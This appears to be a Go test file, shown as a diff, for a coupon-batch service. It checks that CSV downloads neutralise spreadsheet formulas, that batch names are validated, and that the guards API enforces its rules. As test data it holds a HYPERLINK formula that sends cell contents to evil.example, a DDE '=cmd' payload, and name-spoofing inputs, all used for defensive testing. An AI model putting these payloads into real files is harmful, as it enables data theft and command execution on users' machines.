@@ -1,0 +1,204 @@
+package pages_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	"net/http"
+	"regexp"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/chromedp/chromedp"
+	"github.com/stretchr/testify/require"
+
+	"github.com/issuer-dev/issuer/internal/excelcsv"
+)
+
+const formulaName = `=HYPERLINK("http://evil.example/?x="&A2,"Click")`
+
+var (
+	plainNumber = regexp.MustCompile(`^-[0-9]+(\.[0-9]+)?$`)
+	markedID    = regexp.MustCompile(`^\t[0-9]+$`)
+)
+
+// requireNoFormula fails when a cell of the CSV out begins as a
+// spreadsheet formula does (a plain negative number is not one).
+func requireNoFormula(t *testing.T, name, out string) {
+	t.Helper()
+	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, excelcsv.BOM))).ReadAll()
+	require.NoError(t, err, "%s: %s", name, out)
+	require.Greater(t, len(recs), 1, "%s: %s", name, out)
+	for _, rec := range recs {
+		for _, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) && !plainNumber.MatchString(cell) && !markedID.MatchString(cell) {
+				t.Fatalf("%s: a cell a spreadsheet would run: %q", name, cell)
+			}
+		}
+	}
+}
+
+// The CSV downloads of the API and the console — the export, the batch and
+// reconciliation reports, a dry run's rejects — hand a spreadsheet no
+// formula, whatever the batch name, out_request_no or rejected line.
+func TestCSVDownloadsNeutraliseFormulas(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	ann := b.login(t, "ann")
+	a := b.upload(t, ann, "/api/v1/batches", map[string]string{"stock": "S1", "name": formulaName},
+		"openid,out_request_no\noApiEvil01,-A1*1000\noApiEvil02,X-2\n", nil)
+	require.Equal(t, http.StatusCreated, a.Status, a.Body)
+	var rep struct {
+		BatchID int64 `json:"batch_id"`
+	}
+	a.JSON(t, &rep)
+	id := strconv.FormatInt(rep.BatchID, 10)
+
+	downloads := map[string]string{
+		"export":           "/api/v1/batches/" + id + "/export",
+		"batch report":     "/api/v1/batches/" + id + "/report?format=csv",
+		"reconcile report": "/api/v1/reconcile/report?format=csv",
+	}
+	got := map[string]string{}
+	for name, path := range downloads {
+		a := b.get(t, ann, path, nil)
+		require.Equal(t, http.StatusOK, a.Status, "%s: %s", name, a.Body)
+		requireNoFormula(t, name, a.Body)
+		got[name] = a.Body
+	}
+	require.True(t, strings.HasPrefix(got["export"], excelcsv.BOM+"openid,out_request_no,status,outcome,coupon_id,wx_code,wx_message,attempts,last_attempt_at\n"))
+	require.Contains(t, got["export"], "oApiEvil01,'-A1*1000,pending")
+	require.Contains(t, got["reconcile report"], `"'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")"`)
+
+	// A dry run's rejects, with a hostile raw line and reason.
+	a = b.upload(t, ann, "/upload", map[string]string{"stock": "S1", "name": "dry"}, "openid\noDry00001\n=cmd|' /C calc'!A0\n-2+3\n", nil)
+	require.Equal(t, http.StatusOK, a.Status, a.Body)
+	tok := between(a.Body, `action="/upload/`, `/create"`)
+	rj := b.get(t, ann, "/upload/"+tok+"/rejects.csv", nil)
+	require.Equal(t, http.StatusOK, rj.Status, rj.Body)
+	requireNoFormula(t, "rejects", rj.Body)
+	recs, err := excelcsv.ReadAll(strings.NewReader(rj.Body))
+	require.NoError(t, err)
+	require.Equal(t, []string{"=cmd|' /C calc'!A0", "-2+3"}, []string{recs[1][2], recs[2][2]}, "read back exactly")
+}
+
+// A batch name is at most 100 characters of plain text: the API answers
+// 422 and the upload page says why, and nothing is stored.
+func TestBatchNameRules(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	ann := b.login(t, "ann")
+	for _, name := range []string{"spring\x1b[2J", strings.Repeat("名", 101), "two\u2028lines", "rtl\u202egpj.exe"} {
+		a := b.upload(t, ann, "/api/v1/batches", map[string]string{"stock": "S1", "name": name}, csvOf("n", 2), nil)
+		requireJSONError(t, a, http.StatusUnprocessableEntity)
+		require.Contains(t, a.Body, "batch name")
+		a = b.upload(t, ann, "/upload", map[string]string{"stock": "S1", "name": name}, csvOf("n", 2), nil)
+		require.Equal(t, http.StatusUnprocessableEntity, a.Status)
+		require.Contains(t, a.Body, "batch name")
+	}
+	require.Empty(t, b.batches(t))
+	require.Empty(t, b.uploadFiles(t))
+	a := b.upload(t, ann, "/api/v1/batches", map[string]string{"stock": "S1", "name": strings.Repeat("名", 100)}, csvOf("n", 2), nil)
+	require.Equal(t, http.StatusCreated, a.Status, a.Body)
+}
+
+func (b *testBundle) patchJSON(t *testing.T, c *http.Client, path string, body string, header http.Header) answer {
+	t.Helper()
+	req, err := http.NewRequest(http.MethodPatch, b.srv.URL+path, bytes.NewReader([]byte(body)))
+	require.NoError(t, err)
+	req.Header.Set("Content-Type", "application/json")
+	for k, v := range header {
+		req.Header[k] = v
+	}
+	return b.site().Do(t, c, req)
+}
+
+// PATCH /api/v1/batches/{id}/guards changes a batch's guards: an
+// operator's act, audited; null clears; a cap below what the batch has on
+// its way is 409 and changes nothing.
+func TestGuardsAPI(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	id := b.importBatch(t, "guarded", 3)
+	path := "/api/v1/batches/" + strconv.FormatInt(id, 10) + "/guards"
+	otto := bearer(b.token(t, "otto"))
+	batch := func(a answer) map[string]any {
+		t.Helper()
+		require.Equal(t, http.StatusOK, a.Status, a.Body)
+		var m map[string]any
+		a.JSON(t, &m)
+		return m
+	}
+
+	requireJSONError(t, b.patchJSON(t, nil, path, `{"priority":5}`, bearer(b.token(t, "ann"))), http.StatusForbidden)
+	requireJSONError(t, b.patchJSON(t, nil, path, `{"priority":5}`, nil), http.StatusUnauthorized)
+	m := batch(b.patchJSON(t, nil, path, `{"window":"09:00-21:00","start_at":"2030-01-02 10:00","priority":5}`, otto))
+	require.Equal(t, "09:00-21:00", m["window"])
+	require.Equal(t, "2030-01-02T02:00:00Z", m["start_at"])
+	require.EqualValues(t, 5, m["priority"])
+	m = batch(b.patchJSON(t, nil, path, `{"window":null,"priority":null}`, otto))
+	require.NotContains(t, m, "window")
+	require.EqualValues(t, 0, m["priority"])
+	require.Equal(t, "2030-01-02T02:00:00Z", m["start_at"], "a key left out is left as it is")
+
+	for _, body := range []string{`{}`, `{"cap":1}`, `[1]`, `{"priority":"high"}`, `{"window":"9-5"}`, `{"max_amount_yuan":-1}`} {
+		requireJSONError(t, b.patchJSON(t, nil, path, body, otto), http.StatusBadRequest)
+	}
+	a := b.patchJSON(t, nil, path, `{"max_amount_yuan":100}`, otto)
+	requireJSONError(t, a, http.StatusConflict)
+	require.Contains(t, a.Body, "pause it first")
+
+	_, err := b.svc.PauseBatch(context.Background(), b.cli, id)
+	require.NoError(t, err)
+	m = batch(b.patchJSON(t, nil, path, `{"max_amount_yuan":"100.50"}`, otto))
+	require.EqualValues(t, 10050, m["max_amount_fen"])
+	_, err = b.schema.DB.Exec(`UPDATE batches SET reserved_fen = 5000 WHERE id = $1`, id)
+	require.NoError(t, err)
+	a = b.patchJSON(t, nil, path, `{"max_amount_yuan":49.99}`, otto)
+	requireJSONError(t, a, http.StatusConflict)
+	require.Contains(t, a.Body, "below the 50.00 yuan already issued, in flight or in doubt")
+	require.EqualValues(t, 10050, *b.batch(t, id).MaxAmountFen, "nothing changed")
+	m = batch(b.patchJSON(t, nil, path, `{"max_amount_yuan":null}`, otto))
+	require.NotContains(t, m, "max_amount_fen")
+
+	// A session from another origin changes nothing.
+	evil := http.Header{"Origin": {"https://evil.example"}, "Sec-Fetch-Site": {"cross-site"}}
+	requireJSONError(t, b.patchJSON(t, b.login(t, "otto"), path, `{"priority":9}`, evil), http.StatusForbidden)
+	require.Equal(t, 0, b.batch(t, id).Priority)
+
+	var outcomes []string
+	for _, e := range b.auditRows(t, "guards") {
+		var d string
+		require.NoError(t, json.Unmarshal(e.Detail, &d))
+		outcomes = append([]string{string(e.Outcome) + " " + e.Actor + ": " + d}, outcomes...)
+	}
+	require.Equal(t, []string{
+		"denied ann: ",
+		"ok otto: window 09:00-21:00 (was none); start 2030-01-02T10:00:00+08:00 (was none); priority 5 (was 0); loosens the guards",
+		"ok otto: window none (was 09:00-21:00); priority 0 (was 5); loosens the guards",
+		"error otto: spend cap 100.00 yuan (was none)",
+		"ok otto: spend cap 100.50 yuan (was none)",
+		"error otto: spend cap 49.99 yuan (was 100.50 yuan)",
+		"ok otto: spend cap none (was 100.50 yuan); loosens the guards",
+	}, outcomes)
+}
+
+// A batch name of 1,000 characters (stored before names were limited)
+// wraps instead of widening the pages that show it.
+func TestBrowserLongNameWraps(t *testing.T) {
+	t.Parallel()
+	ctx := browser(t)
+	b := setup(t)
+	id := strconv.FormatInt(b.importBatch(t, "long", 3), 10)
+	_, err := b.schema.DB.Exec(`UPDATE batches SET name = repeat('W', 600) || repeat('长', 400)`)
+	require.NoError(t, err)
+	signIn(t, ctx, b, "ann", "/batches?lang=en")
+	for _, path := range []string{"/batches?lang=en", "/batches/" + id + "?lang=en", "/reconciliation?lang=en"} {
+		require.NoError(t, chromedp.Do(ctx, chromedp.Navigate(b.srv.URL+path), chromedp.WaitVisible(chromedp.CSS(`main h1`))))
+		require.True(t, evalBool(t, ctx, `document.body.innerText.includes("WWWWWWWWWW")`), "%s shows the name", path)
+		width := evalString(t, ctx, `document.documentElement.scrollWidth + " <= " + window.innerWidth`)
+		require.True(t, evalBool(t, ctx, `document.documentElement.scrollWidth <= window.innerWidth`), "%s is %s px wide", path, width)
+	}
+}
